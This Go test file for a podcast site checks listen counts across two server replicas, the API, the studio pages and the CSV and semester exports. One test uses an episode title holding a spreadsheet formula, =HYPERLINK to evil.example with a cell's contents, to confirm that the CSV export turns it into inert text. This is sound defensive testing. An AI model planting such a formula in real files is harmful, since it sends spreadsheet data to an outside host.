package web

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/picasoft/antenne/episodes"
	"github.com/picasoft/antenne/storage/storagetest"
	"github.com/picasoft/antenne/web/accounts"
	"github.com/picasoft/antenne/web/listens"
)

// TestListensTwoReplicas: two web servers, each over its own catalog on
// one bucket, count downloads; the studio, its CSV and the API of either
// show the sum.
func TestListensTwoReplicas(t *testing.T) {
	for _, st := range storagetest.Stores(t) {
		t.Run(st.Name, func(t *testing.T) {
			ctx := context.Background()
			a := newSite(t, st.Store, siteOptions{listens: true, trustedProxies: []string{"127.0.0.1"}})
			e := a.ingest("mp3", 440, episodes.Upload{Title: "Les communs", PublishAt: a.clock.Now()})

			// Replica b: its own catalog, counter and server on the
			// same bucket.
			svc := episodes.NewService(st.Store, episodes.Options{Now: a.clock.Now, TempDir: t.TempDir()})
			if err := svc.Load(ctx); err != nil {
				t.Fatal(err)
			}
			counter, err := listens.New(listens.Options{Store: st.Store, Replica: "b", Now: a.clock.Now})
			if err != nil {
				t.Fatal(err)
			}
			wb, err := New(Config{Catalog: svc, Store: st.Store, Links: a.links, Listens: counter, TrustedProxies: []string{"127.0.0.1"},
				Logger: slog.New(slog.DiscardHandler)})
			if err != nil {
				t.Fatal(err)
			}
			// Its requests are tracked, so that a listener's get returns
			// once b has counted it.
			b := &site{t: t, web: wb, svc: svc, store: st.Store, clock: a.clock, links: a.links, show: a.show}
			b.srv = httptest.NewServer(b.tracked(wb.Handler()))
			t.Cleanup(b.srv.Close)

			path := objectPath(e.Media.Key)
			for i, s := range []*site{a, a, b, b, b} {
				code, n := listener{s, "203.0.113." + strconv.Itoa(i+1), "AntennaPod/3.2.0"}.get(path, "", -1)
				if code != 200 || n != e.Media.Size {
					t.Fatalf("download %d: got %d with %d bytes", i, code, n)
				}
			}
			listener{b, "203.0.113.50", "Overcast/3.0 (+http://overcast.fm/; iOS podcast app)"}.get(path, "", -1)
			for _, s := range []*site{a, b} {
				if err := s.web.cfg.Listens.Flush(ctx); err != nil {
					t.Fatal(err)
				}
			}

			if _, err := a.hosts.AddHost(ctx, accounts.Host{Login: "alice", Shows: []string{"lvel"}}, "correct horse"); err != nil {
				t.Fatal(err)
			}
			token, _, err := a.hosts.CreateToken(ctx, "alice")
			if err != nil {
				t.Fatal(err)
			}

			// The API.
			for _, p := range []string{"/api/v1/shows/lvel/listens", "/api/v1/shows/lvel/episodes/" + e.ID + "/listens", "/api/v1/shows/lvel/listens?period=P21"} {
				resp, body := a.do("GET", p, "Authorization: Bearer "+token)
				var r listensReport
				if resp.StatusCode != 200 || json.Unmarshal(body, &r) != nil {
					t.Fatalf("GET %s: %d %s", p, resp.StatusCode, body)
				}
				if r.Total != 6 || len(r.Apps) != 2 || r.Apps[0].App != "AntennaPod" || r.Apps[0].Listens != 5 {
					t.Errorf("GET %s: got total %d, apps %v; want 6 with AntennaPod 5 first", p, r.Total, r.Apps)
				}
				var series int64
				for _, pt := range r.Series {
					series += pt.Listens
				}
				if series != 6 {
					t.Errorf("GET %s: the series sums to %d, want 6", p, series)
				}
			}
			if resp, _ := a.do("GET", "/api/v1/shows/lvel/listens?period=X99", "Authorization: Bearer "+token); resp.StatusCode != 400 {
				t.Errorf("a bad period: got %d, want 400", resp.StatusCode)
			}
			if resp, _ := a.do("GET", "/api/v1/shows/lvel/listens"); resp.StatusCode != 401 {
				t.Errorf("without a token: got %d, want 401", resp.StatusCode)
			}

			// The studio, signed in.
			jar, _ := cookiejar.New(nil)
			client := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
			resp, err := client.PostForm(a.srv.URL+"/studio/login", url.Values{"login": {"alice"}, "password": {"correct horse"}})
			if err != nil || resp.StatusCode != http.StatusSeeOther {
				t.Fatalf("sign in: %v %v", resp.Status, err)
			}
			resp.Body.Close()
			get := func(p string) string {
				t.Helper()
				resp, err := client.Get(a.srv.URL + p)
				if err != nil {
					t.Fatal(err)
				}
				defer resp.Body.Close()
				b, _ := io.ReadAll(resp.Body)
				if resp.StatusCode != 200 {
					t.Fatalf("GET %s: %d\n%s", p, resp.StatusCode, b)
				}
				return string(b)
			}
			for _, p := range []string{"/studio/lvel/listens", "/studio/lvel/" + e.ID + "/listens", "/studio/lvel/listens?period=P21"} {
				page := get(p)
				for _, want := range []string{"6 écoutes", `<svg class="chart"`, `role="img"`, "<td>AntennaPod</td><td>5</td>", "<td>Overcast</td><td>1</td>", "listens.csv?period="} {
					if !strings.Contains(page, want) {
						t.Errorf("GET %s: no %q", p, want)
					}
				}
				if strings.Contains(page, "http://") && strings.Contains(page, "<script src=\"http") {
					t.Errorf("GET %s loads a script from another host", p)
				}
			}
			recs, err := csv.NewReader(strings.NewReader(get("/studio/lvel/listens.csv"))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var sum int64
			for _, r := range recs[1:] {
				n, _ := strconv.ParseInt(r[5], 10, 64)
				sum += n
				if r[2] != e.ID || r[3] != "Les communs" {
					t.Errorf("CSV row %v: want episode %s, Les communs", r, e.ID)
				}
			}
			if strings.Join(recs[0], ",") != "day,show,episode_id,episode_title,app,listens" || sum != 6 {
				t.Errorf("CSV: header %v, sum %d; want 6", recs[0], sum)
			}

			// The semester page and its exports, with the listens.
			if page := get("/studio/lvel/semester?code=P21&listens=1"); !strings.Contains(page, "- Les communs (6 écoutes)") ||
				!strings.Contains(page, `href="/studio/lvel/semester/themes.csv?code=P21&amp;listens=1"`) {
				t.Errorf("the semester page with listens:\n%s", page)
			}
			for file, want := range map[string]string{
				"themes.md":   "- Les communs (6 écoutes)\n",
				"themes.tex":  `\item Les communs (6 écoutes)`,
				"themes.csv":  ",listens\n",
				"themes.json": `"listens": 6`,
			} {
				if out := get("/studio/lvel/semester/" + file + "?code=P21&listens=1"); !strings.Contains(out, want) {
					t.Errorf("%s with listens: no %q in\n%s", file, want, out)
				}
				if _, out := a.do("GET", "/lvel/seasons/P21/"+file); strings.Contains(string(out), "listens") || strings.Contains(string(out), "écoute") {
					t.Errorf("the public %s tells the listens:\n%s", file, out)
				}
			}
			// Last: the switch sets the lang cookie.
			if page := get("/studio/lvel/listens?lang=en"); !strings.Contains(page, "6 listens") {
				t.Errorf("the English page does not say 6 listens")
			}
		})
	}
}

// TestHowWeCount: the page exists in French and English and every public
// page links to it.
func TestHowWeCount(t *testing.T) {
	s := newSite(t, storagetest.Dir(t), siteOptions{})
	resp, fr := s.do("GET", "/comment-nous-comptons")
	if resp.StatusCode != 200 || !strings.Contains(string(fr), "Comment nous comptons") || !strings.Contains(string(fr), "HMAC-SHA256") {
		t.Errorf("French page: %d\n%s", resp.StatusCode, fr)
	}
	if _, en := s.do("GET", "/comment-nous-comptons?lang=en"); !strings.Contains(string(en), "How we count listens") {
		t.Errorf("English page:\n%s", en)
	}
	if _, show := s.do("GET", "/lvel/"); !strings.Contains(string(show), `href="/comment-nous-comptons"`) {
		t.Errorf("the show page has no link to the page")
	}
}

// TestListensCSVFormulasInert: an episode title that a spreadsheet would
// run as a formula reaches listens.csv as text (a leading quote), like
// the themes export: one CSV writer for both.
func TestListensCSVFormulasInert(t *testing.T) {
	ctx := context.Background()
	s := newSite(t, storagetest.Dir(t), siteOptions{listens: true, trustedProxies: []string{"127.0.0.1"}})
	title := `=HYPERLINK("http://evil.example/?"&A1,"clic")`
	e := s.ingest("mp3", 440, episodes.Upload{Title: title, PublishAt: s.clock.Now()})
	if code, n := (listener{s, "203.0.113.1", "AntennaPod/3.2.0"}).get(objectPath(e.Media.Key), "", -1); code != 200 || n != e.Media.Size {
		t.Fatalf("download: got %d with %d bytes", code, n)
	}
	if err := s.web.cfg.Listens.Flush(ctx); err != nil {
		t.Fatal(err)
	}
	if _, err := s.hosts.AddHost(ctx, accounts.Host{Login: "alice", Shows: []string{"lvel"}}, "correct horse"); err != nil {
		t.Fatal(err)
	}
	jar, _ := cookiejar.New(nil)
	client := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.PostForm(s.srv.URL+"/studio/login", url.Values{"login": {"alice"}, "password": {"correct horse"}})
	if err != nil || resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign in: %v %v", resp.Status, err)
	}
	resp.Body.Close()
	resp, err = client.Get(s.srv.URL + "/studio/lvel/listens.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	recs, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("listens.csv: %d records, %v", len(recs), err)
	}
	if got, want := recs[1][3], "'"+title; got != want {
		t.Errorf("the title cell: got %q, want %q", got, want)
	}
}
